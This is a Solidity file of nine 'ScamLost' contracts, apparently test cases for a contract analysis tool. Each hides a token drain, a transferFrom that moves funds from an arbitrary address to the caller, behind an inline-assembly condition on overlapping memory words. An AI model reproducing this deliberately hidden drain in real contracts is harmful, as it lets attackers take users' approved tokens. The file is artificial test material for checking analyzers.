// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface Taken {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Two words of memory at places that nobody follows: the second ends in one, the first does not.
contract Lost {
    function drain(address token, address from, uint256 amount) internal {
        Taken(token).transferFrom(from, msg.sender, amount);
    }
}

/// Drains where they differ, as their difference says: of each the first byte is known.
contract ScamLostSub is Lost {
    function take(address token, address from, uint256 amount) external {
        bool go;
        assembly {
            let b := gt(timestamp(), 1)
            let p := add(0x1000, b)
            let q := add(0x2000, b)
            mstore(0x2001, 1)
            mstore8(p, 7)
            mstore8(q, 7)
            go := iszero(iszero(sub(mload(p), mload(q))))
        }
        if (go) drain(token, from, amount);
    }
}

/// The same by an exclusive or.
contract ScamLostXor is Lost {
    function take(address token, address from, uint256 amount) external {
        bool go;
        assembly {
            let b := gt(timestamp(), 1)
            let p := add(0x1000, b)
            let q := add(0x2000, b)
            mstore(0x2001, 1)
            mstore8(p, 7)
            mstore8(q, 7)
            go := iszero(iszero(xor(mload(p), mload(q))))
        }
        if (go) drain(token, from, amount);
    }
}

/// The same where what is known is an argument.
contract ScamLostArgument is Lost {
    function take(address token, address from, uint256 amount) external {
        bool go;
        assembly {
            let b := gt(timestamp(), 1)
            let p := add(0x1000, b)
            let q := add(0x2000, b)
            mstore(0x2001, 1)
            mstore8(p, amount)
            mstore8(q, amount)
            go := iszero(iszero(sub(add(mload(p), 5), add(mload(q), 5))))
        }
        if (go) drain(token, from, amount);
    }
}

/// The same where they are compared after some reckoning.
contract ScamLostProduct is Lost {
    function take(address token, address from, uint256 amount) external {
        bool go;
        assembly {
            let b := gt(timestamp(), 1)
            let p := add(0x1000, b)
            let q := add(0x2000, b)
            mstore(0x2001, 1)
            mstore8(p, 7)
            mstore8(q, 7)
            go := iszero(eq(mul(mload(p), 3), mul(mload(q), 3)))
        }
        if (go) drain(token, from, amount);
    }
}

/// The same where nothing is known of either.
contract ScamLostWhole is Lost {
    function take(address token, address from, uint256 amount) external {
        bool go;
        assembly {
            let b := gt(timestamp(), 1)
            let p := add(0x1000, b)
            let q := add(0x2000, b)
            mstore(0x2001, 1)
            go := iszero(eq(mul(mload(p), 3), mul(mload(q), 3)))
        }
        if (go) drain(token, from, amount);
    }
}

/// What is decided of the one says nothing of the other.
contract ScamLostConstant is Lost {
    function take(address token, address from, uint256 amount) external {
        uint256 x;
        uint256 y;
        assembly {
            let b := gt(timestamp(), 1)
            let p := add(0x1000, b)
            let q := add(0x2000, b)
            mstore(0x2001, 1)
            mstore8(p, 7)
            mstore8(q, 7)
            x := mload(p)
            y := mload(q)
        }
        require(x == 0x0700000000000000000000000000000000000000000000000000000000000000);
        if (y != 0x0700000000000000000000000000000000000000000000000000000000000000) drain(token, from, amount);
    }
}

/// The same of their last bytes.
contract ScamLostField is Lost {
    function take(address token, address from, uint256 amount) external {
        uint256 x;
        uint256 y;
        assembly {
            let b := gt(timestamp(), 1)
            let p := add(0x1000, b)
            let q := add(0x2000, b)
            mstore(0x2001, 1)
            x := and(mload(p), 0xff)
            y := and(mload(q), 0xff)
        }
        if (x != 0) return;
        if (y != 0) drain(token, from, amount);
    }
}

/// The same where the first bytes are known to be zero.
contract ScamLostRest is Lost {
    function take(address token, address from, uint256 amount) external {
        uint256 x;
        uint256 y;
        assembly {
            let b := gt(timestamp(), 1)
            let p := add(0x1000, b)
            let q := add(0x2000, b)
            mstore(0x2001, 1)
            mstore8(p, 0)
            mstore8(q, 0)
            x := mload(p)
            y := mload(q)
        }
        if (x != 0) return;
        if (y != 0) drain(token, from, amount);
    }
}

/// The same where both are asked at once.
contract ScamLostBoth is Lost {
    function take(address token, address from, uint256 amount) external {
        uint256 x;
        uint256 y;
        assembly {
            let b := gt(timestamp(), 1)
            let p := add(0x1000, b)
            let q := add(0x2000, b)
            mstore(0x2001, 1)
            mstore8(p, 0)
            mstore8(q, 0)
            x := mload(p)
            y := mload(q)
        }
        bool go;
        assembly {
            go := and(iszero(x), iszero(iszero(y)))
        }
        if (go) drain(token, from, amount);
    }
}
